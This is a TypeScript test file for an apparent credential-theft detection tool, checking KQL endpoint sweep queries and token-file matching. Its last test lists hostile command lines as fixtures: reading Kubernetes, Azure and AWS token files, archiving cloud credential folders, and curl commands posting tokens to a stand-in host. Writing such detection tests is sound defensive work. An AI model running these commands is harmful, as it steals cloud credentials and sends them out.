import { describe, expect, it } from 'vitest';
import { buildSweepQuery, ENDPOINT_TERMS, MAX_INGESTION_DELAY_MS, SWEEP_TABLES, TOKEN_FILE_TERMS } from '../../../../src/core/theft/sweep/sweepQueries';
import { tokenFilesInCommandLine } from '../../../../src/core/theft/commandLineTokenFiles';
import { kqlDiagnostics } from '../../../support/kusto';
import { ENDPOINT_TABLES } from '../../../rules/endpointTableSchemas';

const window = { fromMs: Date.UTC(2026, 2, 1, 10), toMs: Date.UTC(2026, 2, 1, 10, 5) };

describe('buildSweepQuery', () => {
  it.each(SWEEP_TABLES)('%s parses and type-checks', (table) => {
    const query = buildSweepQuery(table, window);
    expect(kqlDiagnostics(query.kql, ENDPOINT_TABLES)).toEqual([]);
    expect(query.kql).toContain('ingestion_time() > datetime(2026-03-01T10:00:00.000Z) and ingestion_time() <= datetime(2026-03-01T10:05:00.000Z)');
    expect(query.kql).toMatch(/\| top 5000 by TokenWatchIngestedAt asc$/);
  });

  it('widens the TimeGenerated timespan by the longest accepted ingestion delay', () => {
    const { timespan } = buildSweepQuery('DeviceNetworkEvents', window, 10);
    expect(timespan.startTime.getTime()).toBe(window.fromMs - MAX_INGESTION_DELAY_MS);
    expect(timespan.endTime.getTime()).toBe(window.toMs);
  });

  it('reports an unknown column when the schema lacks it (the check is real)', () => {
    const { kql } = buildSweepQuery('DeviceNetworkEvents', window);
    const { RemoteUrl: _dropped, ...withoutRemoteUrl } = ENDPOINT_TABLES['DeviceNetworkEvents'] ?? {};
    expect(kqlDiagnostics(kql, { DeviceNetworkEvents: withoutRemoteUrl }).join('\n')).toMatch(/RemoteUrl/);
  });
});

/**
 * Kusto's `has`: the term occurs bounded by characters that are not ASCII letters or digits (or the
 * ends), compared case-insensitively; a term that starts or ends with such a character needs no bound there.
 */
function kustoHas(text: string, term: string): boolean {
  const alnum = /[a-z0-9]/i;
  const haystack = text.toLowerCase();
  const needle = term.toLowerCase();
  for (let at = haystack.indexOf(needle); at !== -1; at = haystack.indexOf(needle, at + 1)) {
    const before = haystack[at - 1];
    const after = haystack[at + needle.length];
    const boundedBefore = !alnum.test(needle[0]!) || before === undefined || !alnum.test(before);
    const boundedAfter = !alnum.test(needle[needle.length - 1]!) || after === undefined || !alnum.test(after);
    if (boundedBefore && boundedAfter) return true;
  }
  return false;
}

describe('the DeviceProcessEvents sweep selects the command lines the rules read token files in', () => {
  it.each([
    'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
    'cmd /c type "C:\\Users\\John Smith\\.azure\\msal_token_cache.bin"',
    'tar czf /tmp/c.tgz /home/alice/.azure /home/alice/.aws',
    'cmd /c type %ALLUSERSPROFILE%\\AzureConnectedMachineAgent\\Tokens\\5c7a1e2b.key',
    'sh -c "cat $AZURE_FEDERATED_TOKEN_FILE"',
    "bash -c 'read -r t < ${AWS_WEB_IDENTITY_TOKEN_FILE}; curl -d \"$t\" https://203.0.113.9/'",
    'curl -d @$AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE https://203.0.113.9/',
  ])('%s', (commandLine) => {
    expect(tokenFilesInCommandLine(commandLine)).not.toEqual([]);
    expect([...ENDPOINT_TERMS, ...TOKEN_FILE_TERMS].some((term) => kustoHas(commandLine, term))).toBe(true);
  });
});
